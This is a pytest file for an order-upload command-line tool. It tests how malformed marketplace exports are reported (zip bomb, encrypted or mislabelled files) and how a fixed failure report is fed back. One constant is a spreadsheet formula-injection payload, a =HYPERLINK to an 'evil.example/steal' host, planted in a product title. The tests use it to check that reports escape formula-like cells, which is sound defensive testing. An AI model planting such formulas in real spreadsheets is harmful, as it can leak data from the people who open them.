"""What a seller is told about awkward files, and the fix-the-report-and-feed-it-back loop."""

from __future__ import annotations

import csv
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from flows import settings
from tests.flows import bad_corpus as corpus
from tests.flows.runs import (
    SAMPLE,
    SAMPLE_ORDERS,
    assert_run_failed,
    held,
    oker_export,
    read_csv,
    report_folder,
    run_options,
    uniload,
)
from tests.flows.sandboxes import oker_sandbox, point_at
from uniware.config import demo_credentials
from uniware.sandbox import SandboxServer

INJECTED = '=HYPERLINK("http://evil.example/steal","Open order")'
BAD_CELLS = {  # two orders fail: a short pincode, and a short pincode next to a formula title
    "OKI00000000202": {"Pincode": "5000"},
    "OKI00000000302": {"Pincode": "7000", "Product Title": INJECTED},
}
GOOD_PINCODE = {"OKR000000002": "500051", "OKR000000003": "700011"}
FAILED_ROWS = 6  # every row of orders OKR000000002 (4 rows) and OKR000000003 (2 rows)
REPORT_FILES = ["failures.csv", "failures.xlsx", "summary.json", "summary.md"]
FORMULA_STARTS = ("=", "+", "-", "@")


pytestmark = pytest.mark.usefixtures("quiet_prefect")


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[SandboxServer]:
    with oker_sandbox(tmp_path) as server:
        point_at(monkeypatch, server.base_url, demo_credentials())
        yield server


# --- the bad-input corpus through the command line ------------------------------------


def header_only(folder: Path) -> Path:
    """An Oker export of a day without orders."""
    path = folder / "orders-none.csv"
    path.write_bytes(SAMPLE.read_bytes().splitlines()[0] + b"\r\n")
    return path


def ten_mb_cell(folder: Path) -> Path:
    """An Oker export whose Address Line 2 holds 10 MB (over the contract's 100 characters)."""
    huge = {"OKI00000000101": {"Address Line 2": "x" * 10_000_000}}
    return oker_export(folder / "orders-huge-cell.csv", huge)


def xlsx_named_csv(folder: Path) -> Path:
    """The Oker XLSX sample saved with a .csv name."""
    path = folder / "oker-orders.csv"
    shutil.copyfile(settings.SAMPLES_DIR / "oker-orders.xlsx", path)
    return path


# (writer, exit code of a dry run: 1 unreadable, 0 all valid, 2 some rows failed)
CORPUS: list[tuple[corpus.Writer, int]] = [
    (corpus.empty, 1),
    (corpus.whitespace_only, 1),
    (corpus.random_binary, 1),
    (corpus.zip_bomb_xlsx, 1),
    (corpus.duplicate_headers, 1),
    (corpus.cut_off, 1),
    (corpus.truncated_xlsx, 1),
    (corpus.encrypted_xlsx, 1),
    (corpus.html_as_xls, 1),
    (corpus.login_page_as_csv, 1),
    (corpus.pdf_as_csv, 1),
    (header_only, 0),
    (ten_mb_cell, 2),
    (xlsx_named_csv, 2),
]


@pytest.mark.usefixtures("prefect_harness")
@pytest.mark.parametrize("command", [["run", "--dry-run"], ["validate"]], ids=" ".join)
@pytest.mark.parametrize(("write", "code"), CORPUS, ids=[w.__name__ for w, _ in CORPUS])
def test_awkward_file_gets_the_documented_exit_code_and_is_named(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: list[str],
    write: corpus.Writer,
    code: int,
) -> None:
    path = write(tmp_path)
    result = uniload(capsys, *command, str(path), "--report-dir", str(tmp_path / "reports"))
    assert result.code == code, result.text
    assert path.name in result.text
    assert "Traceback" not in result.text
    if code == 1:
        assert "Fix: " in result.err
    else:
        assert f"{path.name}: " in result.out and "profile oker" in result.out
    if write is header_only:
        assert re.search(r"rows read\s+0\s+from 1 file", result.out)


@pytest.mark.usefixtures("prefect_harness")
@pytest.mark.parametrize(
    ("write", "in_folder"),
    [(corpus.empty, False), (corpus.zip_bomb_xlsx, True), (corpus.encrypted_xlsx, False)],
    ids=["empty", "zip bomb in a folder", "encrypted xlsx"],
)
def test_one_unreadable_file_among_several_is_reported_and_the_others_go_on(
    tmp_path: Path,
    sandbox: SandboxServer,
    capsys: pytest.CaptureFixture[str],
    write: corpus.Writer,
    in_folder: bool,
) -> None:
    inbox = tmp_path / "exports"
    inbox.mkdir()
    good = oker_export(inbox / "april.csv")
    bad = write(inbox)
    paths = [str(inbox)] if in_folder else [str(good), str(bad)]
    strict = uniload(capsys, "run", *paths, *run_options(tmp_path), "--strict")
    assert_run_failed(strict, bad.name, "Fix: ")  # --strict: the whole run fails, as before
    assert held(sandbox.base_url, "requests")["requests"] == []
    result = uniload(capsys, "run", *paths, *run_options(tmp_path))
    assert result.code == 2, result.text  # the default: reported, the good file posted
    assert f"{bad.name}: NOT READ" in result.out and "Fix: " in result.out
    assert held(sandbox.base_url, "orders")["count"] > 0


# --- fix the downloaded report, feed it back ------------------------------------------


def download_report(tmp_path: Path, capsys: pytest.CaptureFixture[str], run_id: str) -> Path:
    """`uniload reports download RUN_ID --to DIR`: the folder, after checking what it holds."""
    to = tmp_path / "download"
    reports = str(tmp_path / "reports")
    result = uniload(
        capsys, "reports", "download", run_id, "--to", str(to), "--report-dir", reports
    )
    assert result.code == 0, result.text
    assert sorted(Path(line).name for line in result.out.splitlines()) == REPORT_FILES
    return to


def assert_no_live_formula(cells: list[object]) -> None:
    """No text a spreadsheet would run: formula-like cells carry a leading "'"."""
    risky = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert risky == []
    assert "'" + INJECTED in cells


def fix_csv(report: Path) -> Path:
    """Give each row whose Pincode was refused its order's right pincode, as a seller would."""
    rows = read_csv(report)
    for row in rows:
        if "Pincode" in row["error_field"]:
            row["Pincode"] = GOOD_PINCODE[row["Order ID"]]
    assert_no_live_formula([cell for row in rows for cell in row.values()])
    with report.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return report


def fix_xlsx(report: Path) -> Path:
    """The same fix in Excel: the refused Pincode cells of failures.xlsx."""
    book = openpyxl.load_workbook(report)
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert_no_live_formula([c.value for c in cells])
    header = [str(c.value) for c in sheet[1]]
    order, pincode, fields = (header.index(n) for n in ("Order ID", "Pincode", "error_field"))
    for row in sheet.iter_rows(min_row=2):
        if "Pincode" in str(row[fields].value):
            row[pincode].value = GOOD_PINCODE[str(row[order].value)]
    book.save(report)
    return report


@pytest.mark.usefixtures("prefect_harness")
@pytest.mark.parametrize(
    ("name", "fix"), [("failures.csv", fix_csv), ("failures.xlsx", fix_xlsx)], ids=["csv", "xlsx"]
)
def test_a_fixed_report_fed_back_posts_every_failed_order_once(
    tmp_path: Path,
    sandbox: SandboxServer,
    capsys: pytest.CaptureFixture[str],
    name: str,
    fix: Callable[[Path], Path],
) -> None:
    export = oker_export(tmp_path / "oker-april.csv", BAD_CELLS)
    first = uniload(capsys, "run", str(export), *run_options(tmp_path))
    assert first.code == 2, first.text
    assert held(sandbox.base_url, "orders")["ids"] == SAMPLE_ORDERS[:1]

    run_id = report_folder(first).name
    listed = uniload(capsys, "reports", "list", "--report-dir", str(tmp_path / "reports"))
    assert run_id in listed.out.splitlines()[1]  # the newest run first, under the header

    report = download_report(tmp_path, capsys, run_id) / name
    fixed = fix(report)
    again = uniload(capsys, "run", str(fixed), *run_options(tmp_path))

    assert again.code == 0, again.text
    assert f"{name}: {FAILED_ROWS} rows, 0 failed, profile oker" in again.out
    assert sorted(held(sandbox.base_url, "orders")["ids"]) == SAMPLE_ORDERS
    stats = held(sandbox.base_url, "stats")
    assert (stats["requests"], stats["duplicate_ids_received"]) == (3, [])
    posted = held(sandbox.base_url, "orders/OKR000000003")["payload"]
    assert INJECTED in [item["title"] for item in posted["orderItems"]]
